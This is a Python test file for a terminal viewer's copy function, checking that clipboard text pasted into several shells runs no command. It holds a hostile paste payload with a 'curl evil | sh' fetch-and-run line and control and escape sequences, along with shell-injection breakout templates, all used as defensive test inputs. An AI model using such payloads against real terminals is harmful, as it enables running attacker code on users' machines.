# SPDX-License-Identifier: Apache-2.0
"""Copied text can be pasted into a terminal without being executed."""

from __future__ import annotations

import base64
import os
import re
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest
import yaml
from hypothesis import example, given, settings
from hypothesis import strategies as st

from nri_scope.text.yaml_text import YamlValue, shell_safe, to_yaml
from tests.amount import amount
from tests.tui.hostile import hostile_recording
from tests.tui.screen import RECORDINGS, Shown, showing
from tests.tui.textual_state import texts_sent

ATTACK = "c1\x03\ncurl evil | sh\n\x1b[201~"


def _copied(screen: Shown) -> str:
    """Return the clipboard after a check that it contains no control characters."""
    text = screen.app.clipboard
    assert text
    assert not [c for c in text if c != "\n" and (ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0)]
    return text


@pytest.mark.exhaustive
async def test_copied_events_contain_no_control_characters(tmp_path: Path) -> None:
    path = hostile_recording(tmp_path / "h.nriscope.db", huge=False)
    async with showing(path, size=(160, 50)) as screen:
        for event in (3, 5, 24):
            await screen.go_to(event)
            await screen.press("y")
            await screen.shows(f"copied event {event}")
            _copied(screen)


# The quoting of fish and zsh differs from POSIX.
_SHELLS = [
    [name, *options.split()]
    for name, options in {
        "bash": "--norc -i",
        "zsh": "-f -i",
        "fish": "--no-config -i",
        "dash": "-i",
    }.items()
    if name == "bash" or shutil.which(name)
]
_BREAKOUTS = [
    "{}",
    "x\n{}\ny",
    ";{};",
    "$({})",
    "`{}`",
    "';{};'",
    '";{};"',
    "|{}|",
    "&{}&",
    "\\';{};'",
    "\\'\";{};'",
]
_SUFFIXES = ["", " ", "\\", "'", '"', "\n", "!"]


@settings(max_examples=amount(40, 40), deadline=None)
@example([("{}", "'")])
@example([("{}", "'"), (";{};", "")])
@example([("{}", "\\")])
@given(
    st.lists(
        st.tuples(st.sampled_from(_BREAKOUTS), st.sampled_from(_SUFFIXES)),
        min_size=1,
        max_size=4,
    )
)
def test_pasted_yaml_runs_no_command(parts: list[tuple[str, str]]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        marker = Path(folder) / "ran"
        text = "".join(part.format(f"touch {marker}") + suffix for part, suffix in parts)
        document: YamlValue = {
            "id": text,
            text: [text, {"args": [text]}],
            "args": [text, *text.split(), None, [text]],
            f"A={text}": f"touch {marker}",
            "mounts": [{f"touch {marker}": text}, {"A=B": f"touch {marker}"}],
        }
        for shell in _SHELLS:
            _run_pasted(to_yaml(shell_safe(document)), folder, shell)
            # Shells write their history into hidden files there.
            assert [one for one in Path(folder).iterdir() if one.name[0] != "."] == []
        assert yaml.safe_load(to_yaml(shell_safe(document))) == document


def test_pasted_yaml_without_escaping_runs_a_command(tmp_path: Path) -> None:
    for shell in _SHELLS:
        _run_pasted(to_yaml({"id": f"x\ntouch {tmp_path / 'ran'}\n"}), str(tmp_path), shell)
        (tmp_path / "ran").unlink()


def _run_pasted(text: str, folder: str, shell: list[str]) -> str:
    environment = {**os.environ, "HOME": folder}
    return subprocess.run(
        shell, input=text, text=True, cwd=folder, env=environment, capture_output=True, check=False
    ).stdout


async def test_text_copied_by_textual_is_escaped(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    async with showing() as screen:
        written = texts_sent(screen.app, monkeypatch)
        screen.app.copy_to_clipboard(ATTACK)
        assert _copied(screen).splitlines() == [r"c1\x03", "curl evil | sh", r"\x1b[201~"]
        (sequence,) = [text for text in written if "\x1b]52" in text]
        content = re.fullmatch(r"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07", sequence)
        assert content and base64.b64decode(content[1]).decode() == screen.app.clipboard


async def test_one_change_is_copied_with_its_path(tmp_path: Path) -> None:
    path = Path(shutil.copy(RECORDINGS / "demo.nriscope.db", tmp_path))
    async with showing(path, (120, 40), surveyed=True) as screen:
        await screen.shows("3 problems")
        await screen.go_to(20)
        await screen.press("b", "/", *"FOO", "enter")
        await screen.shows("FOO=overridden")
        await screen.press("y")
        await screen.shows("copied 1 change with FOO")
        (line,) = yaml.safe_load(_copied(screen))
        assert (line["path"], line["value"]) == ("/process/env/FOO", "overridden")
        assert (line["owner"], line["before"]) == ("30-env-injector", "bar")
        await screen.press("H", "y")
        await screen.until(lambda: "container_id" in screen.app.clipboard)
        (change,) = yaml.safe_load(_copied(screen))
        assert change["path"] == "/process/env/FOO"
        assert (change["owner"], change["before"]) == ("30-env-injector", "bar")
